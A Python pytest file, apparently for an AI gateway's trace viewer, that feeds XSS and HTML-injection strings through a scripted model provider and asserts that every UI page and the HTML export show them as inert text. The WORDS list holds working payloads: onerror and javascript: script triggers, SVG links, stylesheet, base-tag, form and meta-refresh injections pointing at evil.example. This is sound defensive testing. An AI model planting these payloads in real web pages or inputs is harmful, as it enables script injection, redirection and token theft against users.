"""What agents, models and tools say is shown as they said it, and does nothing in the browser of whoever looks."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any, Final

import aiohttp
import pytest

from gateway_process import GatewayProcess
from hostile import HOSTILE
from sidestream.testing import ScriptedUpstream
from sidestream.testing.gateway import PREFIX
from sidestream.testing.upstream import response
from surfing import awake, looking

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.async_api import Browser

    from sidestream.testing.upstream import Connection, Received
    from surfing import Sight

pytestmark = pytest.mark.asyncio(loop_scope="session")

WORDS: Final = (
    *HOSTILE,
    "<img src=x onerror=window.__xss=1>",
    "![x](https://evil.example/x.png)",
    "[x](javascript:window.__xss=1) <https://evil.example/> [y]: https://evil.example/y",
    "<svg><a xlink:href=javascript:window.__xss=1><text>x</text></a></svg>",
    "<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/>",
    "<form action=//evil.example/><input name=token autofocus></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
)
KEY: Final = "inv-" + "a" * 64


def asking(words: str) -> dict[str, Any]:
    """A request whose model, system prompt and question are these words."""
    return {"model": words, "max_tokens": 9, "system": words, "messages": [{"role": "user", "content": words}]}


def everything() -> dict[str, Any]:
    """A request that has all words wherever an agent can have any."""
    return {
        "model": "m",
        "max_tokens": 9,
        "system": [{"type": "text", "text": words} for words in WORDS],
        "metadata": {"user_id": WORDS[0]},
        "stop_sequences": list(WORDS),
        "tools": [{"name": words, "description": words, "input_schema": {words: words}} for words in WORDS],
        "messages": [message for place, words in enumerate(WORDS) for message in exchanged(f"t{place}", words)],
    }


def exchanged(name: str, words: str) -> list[dict[str, Any]]:
    """A question, an answer that calls a tool, and its result."""
    call = {"type": "tool_use", "id": name, "name": words, "input": {words: [words, {words: words}]}}
    result = {
        "type": "tool_result",
        "tool_use_id": name,
        "is_error": True,
        "content": [{"type": "text", "text": words}],
    }
    thought = {"type": "thinking", "thinking": words, "signature": words}
    return [
        {"role": "user", "content": words},
        {"role": "assistant", "content": [thought, {"type": "text", "text": words}, call]},
        {"role": "user", "content": [result, {"type": words, "text": words}]},
    ]


def answered(words: str) -> list[dict[str, Any]]:
    """What a model may say, with these words."""
    return [
        {"type": "thinking", "thinking": words, "signature": words},
        {"type": "text", "text": words, "citations": [{"type": words, "cited_text": words, "url": words}]},
        {"type": "server_tool_use", "id": f"s{words}", "name": words, "input": {words: words}},
        {"type": words, words: words},
        {"type": "tool_use", "id": f"u{words}", "name": words, "input": {words: words}},
    ]


async def provider(request: Received, connection: Connection) -> None:
    """Answers with all words in all places; or with an error that says those of a short question."""
    asked = json.loads(bytes(request.body))
    words = asked["model"]
    headers = [("Content-Type", "application/json"), ("request-id", ascii(words))]
    if len(asked["messages"]) == 1:
        error = {"type": "error", "error": {"type": words, "message": words}}
        await connection.send(response(json.dumps(error).encode(), status="400 Bad Request", headers=headers))
        return
    content = [block for each in WORDS for block in answered(each)]
    usage = {"input_tokens": 9, "output_tokens": 9, WORDS[0]: WORDS[1]}
    facts = {"id": WORDS[0], "model": WORDS[0], "stop_reason": WORDS[0], "usage": usage}
    message = {"type": "message", "role": "assistant", "content": content, **facts}
    await connection.send(response(json.dumps(message).encode(), headers=headers))


async def refusing(_request: Received, connection: Connection) -> None:
    """An Explorer that wants nothing, and says why at length."""
    body = json.dumps({"detail": WORDS[0], "error": WORDS[1]}).encode()
    await connection.send(response(body, status="422 Unprocessable"))


async def said(url: str) -> None:
    """All of it, through the gateway."""
    address = f"{url}{PREFIX}/hostile/anthropic/v1/messages"
    async with aiohttp.ClientSession(headers={"x-api-key": f"sk;invariant-auth={KEY}"}) as session:
        for body in [everything(), *map(asking, WORDS)]:
            headers = {"User-Agent": ascii(body["model"]), "Content-Type": "application/json"}
            async with session.post(address, data=json.dumps(body), headers=headers) as response:
                await response.read()


async def stored(url: str) -> list[str]:
    """The runs, the first at the end, once all are stored, and what can be delivered was tried to be."""
    async with asyncio.timeout(20), aiohttp.ClientSession() as session:
        while True:
            async with session.get(f"{url}/ui/api/runs?limit=200&everything=true") as response:
                runs = [run["id"] for run in (await response.json())["runs"]]
            async with session.get(f"{url}/ui/api/deliveries?state=dead") as response:
                dead = (await response.json())["deliveries"]
            if (len(WORDS) + 1, 1) == (len(runs), len(dead)):
                return runs
            await asyncio.sleep(0.05)


async def taken_away(url: str, run: str, file: Path) -> None:
    """Export a run as a page by itself."""
    async with aiohttp.ClientSession() as session, session.get(f"{url}/runs/{run}/export/html") as response:
        file.write_bytes(await response.read())


async def visit(sight: Sight, address: str) -> str:
    """Open a page, and all that is folded on it; its text."""
    await sight.page.goto(address)
    await sight.page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    assert await sight.page.evaluate("window.__xss === undefined"), address
    assert sight.page.url.startswith(address.partition("?")[0]), address
    return await sight.page.locator("body").inner_text()


async def test_hostile_words_are_text_on_every_page_also_where_no_policy_stops_them(
    tmp_path: Path, browser: Browser
) -> None:
    async with (
        ScriptedUpstream(provider) as upstream,
        ScriptedUpstream(refusing) as explorer,
        GatewayProcess(tmp_path, upstream.url, sinks=[{"explorer": {"url": explorer.url}}]) as gateway,
    ):
        url = await awake(gateway.url)
        await said(url)
        *refused, run = await stored(url)
        lists = ["/?everything=true&limit=200", "/overview", "/?q=script", "/deliveries", "/?q=evil*"]
        paths = [*lists, f"/runs/{run}", f"/turns/{run}", *(f"/turns/{each}" for each in refused[::3])]
        async with looking(browser, bypass_csp=True) as unguarded, looking(browser) as guarded:
            texts = [await visit(unguarded, url + path) for path in paths]
            for path in (*lists, f"/runs/{run}", f"/turns/{run}", f"/runs/{refused[0]}"):
                await visit(guarded, url + path)
        await taken_away(url, run, tmp_path / "run.html")
        async with looking(browser, bypass_csp=True) as alone:
            texts.append(await visit(alone, (tmp_path / "run.html").as_uri()))
        here = {url.removeprefix("http://")}
        assert ([], here, [], here) == (unguarded.wrong, unguarded.hosts(), guarded.wrong, guarded.hosts())
        assert ([], [(tmp_path / "run.html").as_uri()]) == (alone.wrong, alone.asked)
        assert [True] * 4 == ["<script>alert(1)</script>" in texts[place] for place in (0, 5, 6, -1)]
        assert [] == [each for each in unguarded.asked if each.endswith(("/x", "/a.css", "/x.png"))]
